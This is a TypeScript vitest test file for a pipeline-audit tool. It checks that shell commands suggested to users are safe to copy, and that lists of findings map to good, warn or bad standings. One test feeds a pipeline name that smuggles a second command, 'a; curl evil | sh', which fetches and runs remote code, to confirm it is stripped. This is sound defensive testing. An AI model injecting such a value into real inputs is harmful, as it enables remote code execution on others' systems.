import type { CoveredPipeline } from '@countersign/client/views'
import { expect, test } from 'vitest'
import { fixOf, standingOf } from './fixes.ts'

const pipeline = (name: string): CoveredPipeline => ({
  pipeline: name,
  contract: null,
  systems: [],
  runs: 3,
  incomplete: 2,
  lastAt: null,
  findings: [],
})

test('what is copied into a shell holds nothing that a shell reads', () => {
  expect(fixOf('no-run', pipeline('shop/web')).command).toContain('--pipeline shop/web ')
  const evil = fixOf('no-run', pipeline('a; curl evil | sh')).command
  expect(evil).toContain('--pipeline PIPELINE ')
  expect(evil).not.toContain('curl')
})

test.each([
  [[], 'good'],
  [['late'], 'warn'],
  [['late', 'incomplete'], 'bad'],
  [['no-contract', 'weak-identity'], 'warn'],
  [['no-run', 'no-contract'], 'bad'],
] as const)('%j stands %s', (findings, tone) => {
  expect(standingOf(findings).tone).toBe(tone)
})
